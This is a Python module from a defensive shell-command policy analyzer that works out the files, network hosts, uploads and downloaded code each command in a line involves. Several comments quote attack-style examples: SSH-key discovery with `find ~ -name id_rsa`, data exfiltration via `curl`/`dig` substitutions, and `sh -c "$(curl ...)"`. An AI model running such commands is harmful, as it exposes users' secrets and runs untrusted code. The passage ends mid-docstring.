"""What a command line does: per simple command, the facts a policy decides on.

`shell.analyze` says which programs a line runs and with which words; this module
says what those words mean to each program — which files it reads, writes and
deletes, whether it deletes recursively, talks to the network and to whom, what it
uploads, whether it runs code the policy cannot see (and why), runs code it
downloaded, runs as another user or forks without end — so that a rule reads
`c.writes.exists(p, !path.within(p, workspace))` instead of matching strings.

Paths are judged where the program would really act:

* against the directory each command runs in (`cd`, `pushd`, `popd`, `env -C`,
  `git -C`, `make -C`, `tar -C` followed), with `~` and `~user` expanded;
* a path whose place cannot be known (after `cd "$X"`, from a variable, through
  something created earlier in the same line — `ln -s /etc x && rm -rf x/` — or
  relative to a working directory nobody named) is written `?` followed by what is
  known of it, so it is inside no workspace and category rules still see its name;
* with the disk consulted per call (never memoised: a link made between two calls
  must count): shell globs expanded as bash would, symbolic links resolved (both
  spellings kept when they differ).

Operand conventions are a table of common programs (`dd if=/of=`, `host:path` for
scp and rsync, `-C`/`--git-dir`/`--work-tree`, `-o`/`--output`, `-t`, `tee`,
`install`, `ln`, ...). A program the table does not know has its operands counted
as paths it reads. Interpreter one-liners are read by `policy.analysis.code`; the
shell commands they hand to a shell are analysed like any other line.
"""

from __future__ import annotations

import fnmatch
import functools
import operator
import os
import posixpath
import re
from collections.abc import Iterable, Iterator
from typing import Any

from policy._lazy_dataclass import dataclass, field, fields, replace
from policy.analysis import kept_lines
from policy.analysis import paths as _paths
from policy.analysis import shell as _shell
from policy.analysis.environ import account_lookups, note_account_lookup
from policy.analysis.operands import UNKNOWN, Facts, is_unknown, unique
from policy.analysis.viewer import may_list, may_search

TYPE_CHECKING = False
if TYPE_CHECKING:
    from policy.analysis import git, literal, programs, readonly
else:
    from policy.analysis._lazy_module import lazy_submodules

    # (imported at the first read: a line whose lexical facts were read back,
    # policy.analysis.kept_lines, reads none of them unless it runs git or jq)
    lazy_submodules(globals(), "policy.analysis", "git", "literal", "programs", "readonly")

__all__ = ["UNKNOWN", "Command", "Line", "analyze", "is_unknown"]


_MAX_GLOB_MATCHES = 256


_MAX_EXTRA_DEPTH = 4  # interpreter code that spawns code that spawns ...


@dataclass(frozen=True, slots=True)
class Command:
    """One program invocation and what it does. The first fields are the parse
    (`shell.SimpleCommand`); the rest are this module's facts."""

    name: str
    argv: tuple[str, ...]
    args: tuple[str, ...]
    flags: tuple[str, ...]
    redirects: tuple[str, ...]
    raw: str
    via: str
    wrappers: tuple[str, ...]
    dynamic: bool
    #: The first operand of programs with subcommands (`git push` -> "push").
    subcommand: str = ""
    assignments: tuple[str, ...] = ()
    cwd: str = ""
    reads: tuple[str, ...] = ()
    #: Paths whose names and metadata it prints, never contents (`ls`, `find`, `stat`).
    lists: tuple[str, ...] = ()
    writes: tuple[str, ...] = ()
    deletes: tuple[str, ...] = ()
    recursive: bool = False
    network: bool = False
    hosts: tuple[str, ...] = ()
    sends: tuple[str, ...] = ()
    hidden: str = ""
    downloaded: bool = False
    privileged: bool = False
    forks: bool = False
    variables: tuple[str, ...] = ()
    #: It only reads and prints: a program with no option that acts
    #: (policy.analysis.readonly), no writes, network, hidden or spawned code, no
    #: wrapper and no assignment in effect.
    reads_only: bool = False

    def to_cel(self) -> dict[str, Any]:
        """The CEL map: every field, tuples as lists (the checker's `Command` message
        type is built from the same fields, policy.packs.cel.types), and every string a
        plain `str`: the shell analysis marks words with `str` subclasses (a quoted
        brace, an unknown value), which cel-expr-python refuses to take at all."""
        plain: dict[str, Any] = {}
        for name, value in zip(_COMMAND_FIELDS, _COMMAND_VALUES(self), strict=True):
            kind = type(value)
            if kind is tuple:
                plain[name] = _plain_strings(value) if value else []
            elif kind is str or kind is bool:
                plain[name] = value
            else:
                plain[name] = _plain_string(value)
        return plain


_COMMAND_FIELDS = tuple(f.name for f in fields(Command))
#: Every field's value, in `_COMMAND_FIELDS`' order, in one call.
_COMMAND_VALUES = operator.attrgetter(*_COMMAND_FIELDS)


def _plain_string(value: Any) -> Any:
    return str.__str__(value) if isinstance(value, str) and type(value) is not str else value


def _plain_strings(values: tuple[Any, ...]) -> list[Any]:
    return [v if type(v) is str else _plain_string(v) for v in values]


@dataclass(frozen=True, slots=True)
class Line:
    """Every command of one line with its facts, and the parse error ("" if none).

    `limit`: why the analysis gave up ("" when it did not) — a cap it met, named
    (`shell.CAPS`), in the line or in code the line runs, or an error it failed
    with. Its commands are then left out: a policy must refuse such a line, not
    judge it on what was seen before the analysis stopped."""

    commands: tuple[Command, ...]
    parse_error: str = ""
    limit: str = ""
    #: Units of work spent on it, the code it runs included (what `_MAX_COST` bounds).
    cost: int = 0
    #: Stopped by the wall-clock backstop (shell.limits.BACKSTOP_S): never memoised.
    clocked: bool = False
    #: Bytes its analyses built, the code's included: a large line is not memoised.
    built: int = 0
    #: Its facts, the code's included, hold a home the account database gave (`~name`):
    #: never kept for another process (policy.analysis.kept_lines), whose database
    #: may say otherwise.
    accounts: bool = False
    #: What is built from this line, kept with it for as long as it lives: a line
    #: nothing on disk changed is the same object at each call (`_on_disk`), so a
    #: repeated call's access is not worked out again (policy.analysis.access).
    kept: dict[object, Any] = field(default_factory=dict, init=False, compare=False, repr=False)

    def to_cel(self) -> list[dict[str, Any]]:
        return [c.to_cel() for c in self.commands]


#: The work one line may take, the code it hands to a shell included (each piece of
#: code is analysed on its own, within the caps of one analysis; together they get
#: the budget of one).
_MAX_COST = _shell.MAX_STEPS + _shell.MAX_PARSE_STEPS
_CODE_BYTES_PER_STEP = 2  # bytes of code read (`programs.reading_code`) per unit of cost


def analyze(command: str, cwd: str = "", home: str = "", *, disk: bool = True) -> Line:
    """The facts of `command` run in `cwd` by a user whose home is `home`.

    The parse and lexical facts are memoised; with `disk` the file system is then
    consulted for this call (globs, symbolic links, a repository's git config).
    Never raises: an analysis that fails comes back with `limit` set."""
    lexical = _lexical(command, cwd, home)
    if not disk or lexical.limit:
        return lexical
    try:
        found = _on_disk(lexical, home)
        if found is lexical:
            # (nothing on disk changed it: its paths passed the lexical check, whose
            # bounds the on-disk one only widens)
            return found
        limit = _too_many_paths(found.commands, on_disk=True)
    except Exception as exc:  # noqa: BLE001 - a failure refuses the line, never passes it
        limit = _failed(exc)
    else:
        if not limit:
            return found
    return Line((), lexical.parse_error or limit, limit, lexical.cost, built=lexical.built)


def _too_many_paths(commands: Iterable[Command], *, on_disk: bool = False) -> str:
    """Why a line must be refused for the paths it names (`shell.too_many_paths`), or ""."""
    return _shell.too_many_paths(
        (
            p
            for c in commands
            for found in (c.reads, c.lists, c.writes, c.deletes, c.sends)
            for p in found
        ),
        on_disk=on_disk,
    )


def _failed(exc: BaseException) -> str:
    return f"the analysis failed: {type(exc).__name__}: {exc}"


class _Unkept(Exception):
    """Carries a line past `_memoised`'s cache: stopped by the clock, or large."""

    def __init__(self, line: Line) -> None:
        super().__init__(line.limit)
        self.line = line


def _lexical(command: str, cwd: str, home: str, depth: int = 0) -> Line:
    if not _shell.keeps_line(command, cwd, home):
        return _lexical_facts(command, cwd, home, depth)
    try:
        line = _memoised(command, cwd, home, depth)
    except _Unkept as exc:
        return exc.line
    if line.accounts:
        # (a memo's line stands for the lookups it made: the code of a line analysed
        # before is one the line that runs it asks the database about too)
        note_account_lookup()
    return line


def forget_lines() -> None:
    """Forget every command line seen: the parse and walk (`shell.analyze`'s memo) and
    the lexical facts built on them (`_memoised`), so the next line costs what a line
    seen for the first time costs — what `policy bench` and tests/bench measure, the
    cost of a one-event hook."""
    _shell.analyze.cache_clear()  # type: ignore[attr-defined]
    _memoised.cache_clear()


@functools.lru_cache(maxsize=1024)
def _memoised(command: str, cwd: str, home: str, depth: int) -> Line:
    kept = kept_lines.in_use if depth == 0 else None
    if kept is not None:
        found = kept.get(command, cwd, home)
        if found is not None:
            return found
    line = _lexical_facts(command, cwd, home, depth)
    if line.clocked or line.built > _shell.KEEP_BYTES:
        raise _Unkept(line)
    if kept is not None and not (line.accounts or line.limit):
        # (a refusal is analysed again: a failure of this process is not the next's)
        kept.keep(command, cwd, home, line)
    return line


def _lexical_facts(command: str, cwd: str, home: str, depth: int) -> Line:
    """The lexical facts of `command`, itself code run by code `depth` levels deep;
    `accounts` set when working them out asked the account database for a home."""
    asked = account_lookups()
    line = _facts_of_line(command, cwd, home, depth)
    if account_lookups() != asked:
        line = replace(line, accounts=True)
    return line


def _facts_of_line(command: str, cwd: str, home: str, depth: int) -> Line:
    analysis = _shell.analyze(command, cwd, home)
    error = analysis.parse_error
    if analysis.limit:
        # what it saw before it stopped is not judged, so it is not worked on either
        line = Line((), error, analysis.limit, analysis.cost, analysis.clocked, analysis.built)
    else:
        try:
            commands = list(analysis.commands)
            with programs.reading_code() as left:
                facts = [programs.facts_of(c, home) for c in commands]
                _dataflow(facts)
            # reading code takes a few µs a byte: charged with the line's steps
            own = analysis.cost + (programs.MAX_CODE_BYTES - left[0]) // _CODE_BYTES_PER_STEP
            extra, cost, built, limit, clocked = _expand_code(
                facts, cwd, home, depth, own, analysis.built
            )
            made = [_freeze(f) for f in facts] + extra
            limit = limit or _too_many_paths(made)
            if limit:
                line = Line((), error or limit, limit, cost, clocked, built)
            else:
                line = Line(tuple(made), error, cost=cost, built=built)
        except programs.CodeLimit as exc:
            line = Line((), error or str(exc), str(exc), analysis.cost, built=analysis.built)
        except Exception as exc:  # noqa: BLE001 - a failure refuses the line, never passes it
            failed = _failed(exc)
            line = Line((), error or failed, failed, analysis.cost, built=analysis.built)
    return line


def _freeze(f: Facts) -> Command:
    c = f.cmd
    return Command(
        name=c.name,
        argv=c.argv,
        args=c.args,
        flags=c.flags if f.flags is None else tuple(dict.fromkeys(f.flags)),
        redirects=c.redirects,
        raw=c.raw,
        via=c.via,
        wrappers=c.wrappers,
        dynamic=c.dynamic,
        subcommand=f.subcommand,
        assignments=c.assignments,
        cwd=_show_dir(f.cwd),
        reads=unique(f.reads),
        lists=unique(f.lists),
        writes=unique(f.writes),
        deletes=unique(f.deletes),
        recursive=f.recursive,
        network=f.network,
        hosts=unique(f.hosts),
        sends=unique(f.sends),
        hidden=f.hidden,
        downloaded=f.downloaded,
        privileged=f.privileged,
        forks=f.forks,
        variables=unique(f.variables),
        reads_only=_reads_only(f),
    )


def _reads_only(f: Facts) -> bool:
    c = f.cmd
    return (
        not (c.wrappers or c.assignments or (c.dynamic and not c.name))
        and not (f.writes or f.deletes or f.sends or f.scripts or f.argvs)
        and not (f.hidden or f.network or f.downloaded or f.privileged or f.forks)
        and readonly.reads_only(c.name, c.args)
        # `git log -p`, `git show`, `git diff`: the patches of whatever files changed
        and not (c.name == "git" and git.prints_contents(c.args))
    )


def _show_dir(cwd: str | None) -> str:
    if cwd is None:
        return UNKNOWN
    return cwd


def _expand_code(
    facts: list[Facts], cwd: str, home: str, depth: int, cost: int, built: int
) -> tuple[list[Command], int, int, str, bool]:
    """The shell commands interpreter code, awk, sed, vim and git hand to a shell,
    analysed as command lines of their own (their facts join the line); with the
    work spent on the line (`cost`, its own) and its code, the bytes they built
    (`built`, its own), and why the line must be refused ("" if it need not; and
    whether that depends on the clock): a piece of code gave up, or the line and its
    code together took more than `_MAX_COST`, or have too many commands or words."""
    extra: list[Command] = []
    # the caps on commands and words hold for the line and its code together
    count = len(facts)
    words = sum(len(f.cmd.argv) for f in facts)
    for f in facts:
        if not f.scripts and not f.argvs:
            continue
        if depth >= _MAX_EXTRA_DEPTH:
            f.hide("code nested too deep to follow")
            continue
        where = f.cwd if f.cwd is not None else ""
        start = where if where.startswith("/") else cwd
        texts = [script for script in f.scripts if script.strip()]
        texts += [" ".join(_quote(a) for a in argv) for argv in f.argvs if argv]
        for text in texts:
            line = _lexical(text, start, home, depth + 1)
            cost += line.cost
            built += line.built
            if line.limit:
                name = f.cmd.name or "a command"
                return extra, cost, built, f"in the code {name} runs: {line.limit}", line.clocked
            if cost > _MAX_COST:
                limit = (
                    f"the line and the code it runs take more than {_MAX_COST} steps "
                    "(cap: analysis.max_steps)"
                )
                return extra, cost, built, limit, False
            count += len(line.commands)
            words += sum(len(c.argv) for c in line.commands)
            if count > _shell.MAX_COMMANDS or words > _shell.MAX_WORDS:
                limit = (
                    f"the line and the code it runs have more than {_shell.MAX_COMMANDS} "
                    "commands (cap: analysis.max_commands)"
                    if count > _shell.MAX_COMMANDS
                    else f"the line and the code it runs have more than {_shell.MAX_WORDS} "
                    "words (cap: analysis.max_words)"
                )
                return extra, cost, built, limit, False
            if line.parse_error:  # (an argv's too: `["sh", "-c", "..."]` holds a script)
                f.hide(f"{f.cmd.name} runs a command that cannot be parsed: {line.parse_error}")
            extra += [replace(c, via=f"{f.cmd.name} code") for c in line.commands]
    return extra, cost, built, "", False


def _quote(word: str) -> str:
    if word and re.fullmatch(r"[A-Za-z0-9_@%+=:,./-]+", word):
        return word
    return "'" + word.replace("'", "'\\''") + "'"


def _dataflow(facts: list[Facts]) -> None:
    """What one command does to another in the same line: code downloaded and then
    run; operands of xargs; paths through something created earlier."""
    downloaded_files: set[str] = set()
    created: list[str] = []
    links: dict[str, str] = {}
    written: dict[str, str] = {}  # files this line writes with text it spells out
    unseen: set[str] = set()  # ... and with text made here that the policy cannot read
    by_pipe: dict[int, list[Facts]] = {}
    for f in facts:
        pipe, _ = f.cmd.pipe
        if pipe:
            by_pipe.setdefault(pipe, []).append(f)
    for stages in by_pipe.values():
        # an environment dump only a name filter reads (`env | grep ^NODE_`)
        stages = sorted(stages, key=lambda s: s.cmd.pipe[1])
        for at, stage in enumerate(stages):
            if _ENVIRON in stage.reads and programs.env_filtered(stage, stages[at + 1 :]):
                stage.reads = [r for r in stage.reads if r != _ENVIRON]
        git.pipeline(stages)  # `git archive HEAD | funzip`: every file, printed
    settings: list[str] = []  # `git config KEY VALUE` earlier in the line
    for index, f in enumerate(facts):
        if f.cmd.name == "git" and settings and f.subcommand != "config":
            # later git commands run with what the line configured (an alias, a push
            # refspec, clean.requireForce): judged as `git -c KEY=VALUE ...`
            given = [w for pair in settings for w in ("-c", pair)]
            argv = (f.cmd.argv[0], *given, *f.cmd.args)
            f = facts[index] = programs.facts_of(replace(f.cmd, argv=argv, args=argv[1:]), f.home)
        if f.cmd.name == "git":
            setting = git.config_setting(f.cmd.args)
            if setting is not None:
                settings.append(setting)
        cmd = f.cmd
        upstream = [
            other
            for other in by_pipe.get(cmd.pipe[0], ())
            if cmd.pipe[0] and other.cmd.pipe[1] < cmd.pipe[1]
        ]
        listed = [p for u in upstream for p in _listed_by(u)]
        start, end = cmd.inner
        inside = facts[start:end] if end > start else []
        if not upstream and "xargs" in cmd.wrappers:
            # `xargs -a <(find ~ -name id_rsa) cat`, `xargs cat < <(find ...)`: the
            # arguments are what the process substitution prints
            substituted = [i for i in inside if i.cmd.via == "<()"]
            if any(r.startswith("<") and "$?" in r for r in cmd.redirects):
                before = index - 1  # (a redirect's substitution comes just before)
                while before >= 0 and facts[before].cmd.via == "<()":
                    substituted.append(facts[before])
                    before -= 1
            listed = [p for i in substituted for p in _listed_by(i)]
        known = bool(listed) and not any(is_unknown(p) for p in listed)
        programs.xargs_note(f, listed if known else None)
        if f.reads_from_input and upstream and len(upstream) == cmd.pipe[1]:
            text = literal.output_of(sorted((u.cmd for u in upstream), key=lambda c: c.pipe[1]))
            if text is not None:
                f.read(*text.split())
        if f.subcommand == "cat-file" and upstream and len(upstream) == cmd.pipe[1]:
            # `echo HEAD:.env | git cat-file --batch`: the objects its input names
            ordered = sorted((u.cmd for u in upstream), key=lambda c: c.pipe[1])
            git.batch_input(f, literal.output_of(ordered))
        # paths through something made earlier in this line: through a link it made,
        # where the link points; through anything else it made, unknown
        if created:
            f.reads = [_through_created(p, created, links) for p in f.reads]
            f.lists = [_through_created(p, created, links) for p in f.lists]
            f.writes = [_through_created(p, created, links) for p in f.writes]
            f.deletes = [_through_created(p, created, links) for p in f.deletes]
            f.runs_files = [_through_created(p, created, links) for p in f.runs_files]
        # a file written in this line with literal text, then run by it (`sh x`, `./x`)
        ran_files = {r.lstrip(UNKNOWN) for r in f.runs_files}
        for ran in f.runs_files:
            text = written.get(ran.lstrip(UNKNOWN))
            if text is not None:
                programs.take_input(f, text, ran)
        if cmd.argv and "/" in cmd.argv[0] and f.at(cmd.argv[0]) not in ran_files:
            ran_files.add(f.at(cmd.argv[0]))
            text = written.get(f.at(cmd.argv[0]))
            if text is not None:
                programs.take_input(f, text, f.at(cmd.argv[0]))
        for ran in ran_files & unseen:
            f.hide(f"{cmd.name} runs {ran}, written in this line with text the policy cannot see")
        # ... or handed to a program that may run it (`pandoc -L f.lua`, `tshark
        # -Xlua_script:f`, `neofetch --config f`): read as that program's code
        if written and cmd.name not in programs.PASSIVE:
            for path in _mentioned(f, written):
                if path not in ran_files:
                    programs.take_file(f, written[path], path)
                    ran_files.add(path)
        if (written or unseen or downloaded_files) and programs.runs_project(f):
            _project_files(f, written, unseen, downloaded_files, ran_files)
        # code from the pipe: literal text (decoded if need be) is read like any code;
        # code from the network is downloaded code; anything else cannot be seen
        feeds_code = f.runs_stdin or (
            cmd.name in programs.SHELLS and cmd.dynamic and not f.runs_files
        )
        if f.runs_stdin:
            text = None
            if upstream and len(upstream) == cmd.pipe[1]:
                text = literal.output_of(sorted((u.cmd for u in upstream), key=lambda c: c.pipe[1]))
            if text is not None:
                programs.take_input(f, text)
            elif any(u.network for u in upstream):
                f.downloaded = True
            else:
                f.hide(f"{cmd.name} runs code from its input, which the policy cannot see")
        elif feeds_code and any(u.network for u in upstream):
            f.downloaded = True
        if inside and any(p.startswith(UNKNOWN) and "$?" in p for p in f.reads):
            # `grep -r . $(dirname $(find ~ -name id_rsa))`: a path printed by a
            # substitution that lists files lies below what it lists
            for lister in inside:
                if lister.cmd.name in _LISTERS:
                    f.read_tree(*(p.split("/**", 1)[0] for p in _listed_by(lister)))
        if f.network and f.hosts:
            # `curl "https://x/?d=$(base64 f)"`, `dig $(cat f).x`: what a substitution
            # in its words prints goes out with it
            f.sends += [p for i in inside if i.cmd.name in _PRINTERS for p in i.reads]
        runs_code = (
            f.hidden
            or f.runs_files
            or f.runs_stdin
            or cmd.name in ("eval", "source", ".")
            or cmd.name in programs.SHELLS
            or programs.language_of(cmd.name) != ""
        )
        # `sh -c "$(curl ...)"`, `bash <(curl ...)`, `eval "$(wget -O- ...)"`
        if (
            runs_code
            and any(i.network for i in inside)
            and (cmd.dynamic or f.hidden or cmd.name in ("eval", "source", "."))
        ):
            f.downloaded = True
        # a file downloaded earlier in the line, then run (`curl -o x.sh ...; sh x.sh`)
        runs = [r.lstrip(UNKNOWN) for r in f.runs_files]
        if cmd.argv and "/" in cmd.argv[0]:
            runs.append(f.at(cmd.argv[0]))
        if any(_below_any(r, downloaded_files) for r in runs):
            f.downloaded = True
        if (
            cmd.name in _PROJECT_RUNNERS
            and downloaded_files
            and (
                _below_any(f.cwd or "", downloaded_files)
                or any(_below_any(r, downloaded_files) for r in f.reads)
            )
        ):
            f.downloaded = True  # `git clone URL x && make -C x`: the project runs
        if f.network:
            # what a networked command writes came over the network (`openssl
            # s_client ... > x.sh`, `git clone URL dir`)
            downloaded_files.update(f.downloads, (p for p in f.writes if not is_unknown(p)))
        elif any(u.network for u in upstream) or any(
            _below_any(r, downloaded_files) for r in f.reads
        ):
            # ... and so is what is made from it (`curl | tee x.sh`, `curl | tar x`,
            # `gunzip x.gz`)
            downloaded_files.update(p for p in f.writes if not is_unknown(p))
        # What may now be a symbolic link the disk did not show: not a file the shell
        # opened for a redirect, nor what `touch`, `mkdir`, `tee` and the like make.
        plain = set(_written_by_redirect(f)) if f.cmd.name not in _PLAIN_WRITERS else set(f.writes)
        created += [
            p for p in f.writes if not is_unknown(p) and p not in f.deletes and p not in plain
        ]
        links.update(f.links)
        text = _literal_output(cmd, upstream)
        targets = _written_by_redirect(f) + (f.writes if cmd.name == "tee" else [])
        if text is not None:
            for target in targets:
                written[target] = text
                unseen.discard(target)
        elif targets and _made_in_line([*upstream, f]):
            # `echo "$X" > conftest.py`, `python -c '...' > x`: text made here, unread
            unseen.update(targets)
            for target in targets:
                written.pop(target, None)
        if programs.language_of(cmd.name) and not f.runs_files and f.writes:
            unseen.update(p for p in f.writes if not is_unknown(p) and p not in written)
        if cmd.name in _COPIERS and (written or unseen):
            _copied(f, written, unseen)


_ENVIRON = "/proc/self/environ"


def _below_any(path: str, places: set[str]) -> bool:
    """`path` is one of `places` or below one."""
    path = path.lstrip(UNKNOWN)
    return bool(path) and any(path == d or path.startswith(d.rstrip("/") + "/") for d in places)


def _listed_by(f: Facts) -> list[str]:
    """The file names a command upstream of xargs prints: what find finds (as
    `find -exec` gets them), else what it reads."""
    if f.cmd.name == "find":
        return [f.at(p) for p in _shell.find_found(list(f.cmd.args))]
    return f.reads + f.lists


def _mentioned(f: Facts, written: dict[str, str]) -> list[str]:
    """The files of `written` that an argument of `f` names, whole or as an option's
    value (`--config=F`, `-Xlua_script:F`)."""
    found: list[str] = []
    for arg in f.cmd.args:
        for piece in {arg, *re.split(r"[=:,]", arg)}:
            if piece and not piece.startswith("-"):
                path = f.at(piece).lstrip(UNKNOWN)
                if path in written and path not in found:
                    found.append(path)
    return found


def _project_files(
    f: Facts,
    written: dict[str, str],
    unseen: set[str],
    downloaded: set[str],
    taken: set[str],
) -> None:
    """`f` runs a project runner (`programs.runs_project`): the runners' files this
    line wrote near where it runs are read as the code they are; one written with
    text nobody can read is code nobody sees; one downloaded is downloaded code."""
    for path, text in written.items():
        if path not in taken and programs.runner_file(path) and _near(path, f):
            taken.add(path)
            programs.take_runner_file(f, text, path)
    for path in unseen:
        if path not in taken and programs.runner_file(path) and _near(path, f):
            name = posixpath.basename(path)
            f.hide(f"{f.cmd.name} runs {name}, written in this line with text nobody can read")
    if any(programs.runner_file(p) and _near(p, f) for p in downloaded if not is_unknown(p)):
        f.downloaded = True


def _near(path: str, f: Facts) -> bool:
    """A runner in `f.cwd` (or reading a directory, `make -C d`, `pytest d`) loads
    `path`: it is below one of them, or in a directory above (config found upwards)."""
    if f.cwd is None:
        return True
    directory = posixpath.dirname(path)
    named = (f.at(a) for a in f.cmd.args if a[:1] in ("/", ".", "~") and UNKNOWN not in a)
    for place in (f.cwd, *f.reads, *named):
        place = place.removesuffix("/**").rstrip("/") or "/"
        if is_unknown(place) or not place.startswith("/"):
            continue
        if _below_any(directory, {place}) or _below_any(place, {directory}):
            return True
    return False


#: Stages whose output is text made in the line (not a file's, read as it is).
_MAKERS = frozenset({"echo", "printf", "base64", "base32", "xxd", "rev", "tr", "openssl"})


def _made_in_line(stages: list[Facts]) -> bool:
    """The pipeline `stages` (its output not literal) prints text made in the line:
    `echo "$X"`, `printf`, a here-document with expansions, `python -c`, `sh -c`,
    a decoder; not a file's content (`cat f`, `git show`: the project's own)."""
    for stage in stages:
        cmd = stage.cmd
        if cmd.name in _MAKERS or cmd.stdin is not None or cmd.name in programs.SHELLS:
            return True
        if cmd.name in ("cat", "tee") and not [a for a in cmd.args if not a.startswith("-")]:
            return True
        if programs.language_of(cmd.name) and not stage.runs_files:
            return True
    return False


#: Programs that copy a file's text to another name.
_COPIERS = frozenset({"cp", "mv", "install", "ln", "rsync", "ditto", "gcp"})


def _copied(f: Facts, written: dict[str, str], unseen: set[str]) -> None:
    """`cp a.py conftest.py` after writing a.py: the copy holds the same text."""
    sources = [r for r in f.reads if r in written or r in unseen]
    targets = [w for w in f.writes if not is_unknown(w) and w not in f.reads]
    for source in sources:
        for target in targets:
            if posixpath.basename(target) != posixpath.basename(source) and not (
                programs.runner_file(target)
            ):
                target = target.rstrip("/") + "/" + posixpath.basename(source)
            if source in written:
                written[target] = written[source]
            else:
                unseen.add(target)


def _through_created(path: str, created: list[str], links: dict[str, str]) -> str:
    if is_unknown(path):
        return path
    for link, target in links.items():
        if path == link or path.startswith(link.rstrip("/") + "/"):
            return target + path[len(link) :]
    for made in created:
        if path == made or path.startswith(made.rstrip("/") + "/"):
            return UNKNOWN + path
    return path


#: Programs that print what they read (so a substitution of them carries the file).
_PRINTERS = frozenset(
    "cat tac head tail base64 base32 basenc xxd od hexdump gzip zcat bzip2 bzcat xz xzcat "
    "zstd tar zip sed awk gawk cut tr sort uniq jq yq strings rev openssl paste column".split()
)
#: Programs that run what a project's manifest says (scripts, hooks, recipes).
_PROJECT_RUNNERS = frozenset(
    "npm pnpm yarn bun composer pip pip3 vagrant cmake make gmake rake bundle gradle mvn "
    "python python3 poetry pipx cargo go ant".split()
)
#: Programs that list files (a substitution of one prints paths below what it lists).
_LISTERS = frozenset({"find", "fd", "fdfind", "locate", "mlocate", "plocate", "ls", "tree", "du"})


def _literal_output(cmd: _shell.SimpleCommand, upstream: list[Facts]) -> str | None:
    """What an `echo`, `printf` or `cat <<EOF` (or a `tee` fed by one) prints."""
    if cmd.name in ("echo", "printf", "cat") and not cmd.pipe[1]:
        return literal.output_of([replace(cmd, redirects=())])
    if cmd.name == "tee" and upstream:
        return literal.output_of(sorted((u.cmd for u in upstream), key=lambda c: c.pipe[1]))
    return None


#: Programs that source `~/.jq` (yq: the Python one runs jq), which is read on disk.
JQ_FAMILY = frozenset({"jq", "yq", "gojq", "jaq"})

#: Programs whose writes are regular files (or directories), never symbolic links.
_PLAIN_WRITERS = frozenset(
    "touch mkdir tee truncate echo printf cat true : head tail sort uniq cut tr jq yq base64 "
    "gzip gunzip xz zstd bzip2 split csplit fallocate dd".split()
)


def _written_by_redirect(f: Facts) -> list[str]:
    """The file an output redirect of `f` writes (the first one)."""
    targets = [r for r in f.cmd.redirects if r.startswith((">", "1>"))]
    return [p for p in f.writes if not is_unknown(p)][:1] if targets else []


#: Directory entries read and path components looked up on disk for one call (globs
#: and symbolic links); past it a path is unknown (`?/...`), never guessed.
_MAX_DISK_LOOKUPS = 20_000


def _on_disk(line: Line, home: str) -> Line:
    """`line` with globs expanded and symbolic links resolved, as of now."""
    budget = [_MAX_DISK_LOOKUPS]
    known: dict[str, bool] = {}  # (what lstat said, for the whole line: paths.resolve)
    repos: dict[tuple[Any, ...], git.Inspection] = {}
    # (the config files git would read, read once for the line: a line none of whose
    # commands looks for a repository leaves git's module unimported)
    configs = git.LineReads() if any(map(_looks_for_git, line.commands)) else None
    made = tuple(p for c in line.commands for p in c.writes)  # (a repository made in the line)
    commands = tuple(
        _resolve_command(c, home, budget, known, repos, made, configs) for c in line.commands
    )
    if all(now is then for now, then in zip(commands, line.commands, strict=True)):
        # (nothing on disk changed a command: the line is its lexical self, the same
        # object each time it is asked, so what is built from it can be kept with it)
        return line
    return replace(line, commands=commands)


def _resolve_command(
    command: Command,
    home: str,
    budget: list[int],
    known: dict[str, bool],
    repos: dict[tuple[Any, ...], git.Inspection],
    made: tuple[str, ...] = (),
    configs: git.LineReads | None = None,
) -> Command:
    reads = resolve_all(command.reads, home, budget=budget, known=known)
    lists = resolve_all(command.lists, home, budget=budget, known=known)
    writes = resolve_all(command.writes, home, budget=budget, known=known)
    deletes = resolve_all(command.deletes, home, keep_patterns=True, budget=budget, known=known)
    sends = resolve_all(command.sends, home, budget=budget, known=known)
    hidden = command.hidden
    if command.name in JQ_FAMILY and not hidden:
        hidden = programs.jq_home_code(home, command.assignments)  # (a stat per jq call)
    if _looks_for_git(command):  # (its writes are resolved from its own: both or neither)
        # the config git would read here (its discovery, includes, the user's), read
        # once per line: what it makes git run, where the work tree is, which files
        # git reads as config (writing one is writing config)
        env = tuple(a for a in command.assignments if a.startswith(_GIT_ENV))
        key = (command.cwd, _git_dir(command), command.subcommand, env)
        if command.name != "git":
            key = (command.cwd, "", "", ())
        if key not in repos:  # (a line of a thousand git commands reads the config once)
            repos[key] = git.inspect(
                command.cwd,
                key[1],
                home=home,
                env=env,
                subcommand=command.subcommand,
                reads=configs,
            )
        found = repos[key]
        if command.name == "git":
            hidden = hidden or found.reason or git.init_reason(command.args, command.cwd)
            more_reads, more_deletes = git.on_disk(command.args, command.cwd, found, home)
            reads = unique((*reads, *more_reads))
            deletes = unique((*deletes, *more_deletes))
        else:

            def lookup(directory: str) -> git.Inspection:
                place = (directory, "", "", ())
                if place not in repos:
                    repos[place] = git.inspect(directory, home=home, reads=configs)
                return repos[place]

            spelt = git.written_as(writes, found, home, made, lookup, removed=deletes)
            writes = unique((*writes, *spelt))
    if (reads, lists, writes, deletes, sends, hidden) == (
        command.reads,
        command.lists,
        command.writes,
        command.deletes,
        command.sends,
        command.hidden,
    ):
        return command
    return replace(
        command,
        reads=reads,
        lists=lists,
        writes=writes,
        deletes=deletes,
        sends=sends,
        hidden=hidden,
        reads_only=command.reads_only and not hidden,
    )


def _looks_for_git(command: Command) -> bool:
    """Whether the disk is asked where git would find a repository for `command`: a git
    command, or one that writes somewhere known (a write into a repository's git
    directory is a write of its config, hooks or refs: `git.written_as`)."""
    return command.name == "git" or (bool(command.writes) and command.cwd.startswith("/"))


#: Variables that change where git finds its repository and config.
_GIT_ENV = ("GIT_", "HOME=", "XDG_CONFIG_HOME=")


def _git_dir(command: Command) -> str:
    """The repository a git command names with `--git-dir` (or `GIT_DIR=`), located;
    "" if none."""
    base = command.cwd if command.cwd.startswith("/") else "/"
    for assignment in command.assignments:
        if assignment.startswith("GIT_DIR=") and _shell._UNKNOWN not in assignment:
            return posixpath.normpath(posixpath.join(base, assignment[len("GIT_DIR=") :]))
    args = list(command.args)
    for index, arg in enumerate(args):
        if arg == "--git-dir" and index + 1 < len(args):
            given = args[index + 1]
        elif arg.startswith("--git-dir="):
            given = arg.split("=", 1)[1]
        else:
            continue
        return posixpath.normpath(posixpath.join(base, given))
    return ""


def resolve_all(
    found: tuple[str, ...],
    home: str,
    *,
    keep_patterns: bool = False,
    budget: list[int] | None = None,
    known: dict[str, bool] | None = None,
) -> tuple[str, ...]:
    """`found` with globs expanded and symbolic links resolved (both spellings kept);
